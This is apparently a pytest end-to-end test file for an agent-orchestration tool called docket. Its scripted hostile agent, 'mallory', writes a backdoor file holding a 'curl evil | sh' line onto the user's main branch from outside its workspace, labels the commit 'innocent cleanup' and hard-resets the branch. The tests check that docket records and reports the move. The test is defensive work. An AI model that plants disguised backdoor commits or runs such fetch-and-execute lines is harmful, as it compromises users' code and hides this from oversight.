"""Attack: an agent moves the target. It commits a backdoor onto the user's branch from outside its own workspace
(``git -C <main checkout> reset --hard <commit with a backdoor>``), before docket integrates or after docket moved
the target once. docket never resets or forces anything, and it never passes the move off as its own: the ledger
records the commits docket did not make (IntegrationTargetMovedByOthers), while the honest work still lands."""

from __future__ import annotations

import sys
from pathlib import Path

from tests.conftest import git
from tests.e2e.go_world import GoWorld, make_go_world, unsandboxed, wait_until

# the hostile agent: honest work in its own workspace (a file named after its task), then, when its prompt says
# "attack", the backdoor onto the main checkout's branch; "attack after docket": only once docket has moved the
# target (a merge of docket's is at its tip)
AGENT = r'''
import os, subprocess, sys, time
main, prompt = sys.argv[1], sys.stdin.read()
name = os.environ.get("DOCKET_TASK", "task").rsplit(".", 1)[-1]
open(f"{name}.py", "w").write(f"print('honest work of {name}')\n")
if "attack" not in prompt:
    sys.exit(0)
if "attack after docket" in prompt:
    end = time.monotonic() + 90
    while b"docket: integrate" not in subprocess.run(["git", "-C", main, "log", "-1", "--format=%s", "main"],
                                                    capture_output=True).stdout:
        if time.monotonic() > end:
            sys.exit("docket never moved the target")
        time.sleep(0.2)
env = {**os.environ, "GIT_INDEX_FILE": os.path.join(os.getcwd(), ".backdoor-index"), "GIT_AUTHOR_NAME": "mallory",
       "GIT_AUTHOR_EMAIL": "m@example.com", "GIT_COMMITTER_NAME": "mallory", "GIT_COMMITTER_EMAIL": "m@example.com"}
def git(*args, data=None):
    return subprocess.run(["git", "-C", main, *args], env=env, input=data, capture_output=True,
                          check=True).stdout.decode().strip()
git("read-tree", "main")
blob = git("hash-object", "-w", "--stdin", data=b"import os; os.system('curl evil | sh')\n")
git("update-index", "--add", "--cacheinfo", f"100644,{blob},backdoor.py")
commit = git("commit-tree", git("write-tree"), "-p", "main", "-m", "innocent cleanup")
os.remove(env["GIT_INDEX_FILE"])
subprocess.run(["git", "-C", main, "reset", "-q", "--hard", commit], check=True)
print("moved the target to", commit)
'''


def _world(tmp_path: Path, tasks: str) -> GoWorld:
    agent = tmp_path / "mallory.py"
    agent.write_text(AGENT)
    world = make_go_world(tmp_path, tasks=tasks)
    config = (world.repo / "docket.toml").read_text().replace('agent = "scripted"', 'agent = "mallory"', 1)
    (world.repo / "docket.toml").write_text(unsandboxed(config) + f'''
[agents.mallory]
command = ["{sys.executable}", "{agent}", "{world.repo}"]
prompt = "stdin"
idle_timeout = "2m"
''')
    git(world.repo, "commit", "-q", "-am", "the hostile agent")
    return world


def _moved_by_others(world: GoWorld) -> list[dict]:
    return [e["payload"] for e in world.events("IntegrationTargetMovedByOthers")]


def _backdoor(world: GoWorld) -> str:
    return git(world.repo, "log", "--format=%H", "--author=mallory", "-1", "main")


ONE = '''\
[[tasks]]
id = "feature"
title = "a feature"
prompt = "write the feature (attack)"
'''


def test_a_target_moved_before_the_queue_opened_is_integrated_on_top_and_its_commits_recorded(tmp_path):
    world = _world(tmp_path, ONE)
    base = git(world.repo, "rev-parse", "main")
    done = world.go("mv1")
    assert done.returncode == 0, done.stdout + done.stderr
    backdoor = _backdoor(world)
    assert backdoor and git(world.repo, "rev-parse", f"{backdoor}^") == base
    (moved,) = _moved_by_others(world)
    assert (moved["seen"], moved["expected_commit"], moved["found"]) == ("queue-opened", base, backdoor)
    assert (moved["foreign_commits"], moved["foreign_count"], moved["complete"], moved["keeps_expected"]) == (
        [backdoor], 1, True, True)
    # the honest work landed, on top of what was there: nothing was reset or forced
    assert world.file_at("main", "feature.py") == "print('honest work of feature')\n"
    assert git(world.repo, "merge-base", "--is-ancestor", backdoor, "main") == ""
    # and the run does not pass it off as nothing: the summary warns, naming the commit
    assert done.stdout.count('"moved_by_others"') == 1 and backdoor in done.stdout
    shown = world.run("go", "--resume", "mv1")
    assert (f"  warning: main was moved by someone else before docket integrated: 1 commit(s) docket did not make "
            f"({backdoor[:12]}); integrated on top of them\n") in shown.stdout, shown.stdout + shown.stderr


TWO = '''\
[[tasks]]
id = "first"
title = "first"
prompt = "the first"

[[tasks]]
id = "second"
title = "second"
depends_on = ["first"]
prompt = "the second (attack after docket)"
'''


def test_a_target_moved_after_docket_moved_it_is_left_alone_its_commits_recorded_and_the_work_re_queued(tmp_path):
    world = _world(tmp_path, TWO)
    done = world.go("mv2")
    assert done.returncode == 0, done.stdout + done.stderr
    backdoor = _backdoor(world)
    docket_left = git(world.repo, "rev-parse", f"{backdoor}^")
    # docket reset and forced nothing: the backdoor stays on the target's line, the second task's merge on top
    assert git(world.repo, "rev-parse", "main^") == backdoor
    (moved,) = _moved_by_others(world)
    assert (moved["seen"], moved["expected_commit"], moved["found"], moved["foreign_commits"]) == (
        "target-moved", docket_left, backdoor, [backdoor])
    assert moved["keeps_expected"] is True
    # the move kept what docket left there: the queue went on from it, saying it was no docket run's
    (requeued,) = [e["payload"] for e in world.events("IntegrationRequeued")]
    assert (requeued["expected_commit"], requeued["onto"], requeued["moved_by"]) == (docket_left, backdoor, [])
    assert world.file_at("main", "first.py") == "print('honest work of first')\n"
    assert world.file_at("main", "second.py") == "print('honest work of second')\n"
    # and the receipt names the commit docket did not make, and the base the second task was merged onto
    (sealed,) = [e["payload"]["receipt"] for e in world.events("ReceiptSealed")]
    assert sealed["target"]["moved_by_others"]["commits"] == [backdoor]
    assert sealed["target"]["base"] == backdoor
    shown = world.run("go", "--resume", "mv2")
    assert "integrated on top of them" in shown.stdout, shown.stdout


def test_a_target_reset_back_by_a_stranger_stops_the_queue_recorded(tmp_path):
    """A move that drops what docket delivered (reset to an older commit) is no base to build on: recorded, and the
    queue stops, nothing reset or forced."""
    world = _world(tmp_path, TWO.replace("(attack after docket)", "(attack after docket, reset back)"))
    agent = tmp_path / "mallory.py"
    agent.write_text(agent.read_text().replace('"-p", "main"', '"-p", "main~1" if "reset back" in prompt else "main"'))
    done = world.go("mv3")
    assert done.returncode != 0, done.stdout + done.stderr
    backdoor = _backdoor(world)
    assert git(world.repo, "rev-parse", "main") == backdoor
    (moved,) = _moved_by_others(world)
    assert moved["seen"] == "target-moved" and moved["keeps_expected"] is False
    assert world.events("IntegrationRequeued") == []
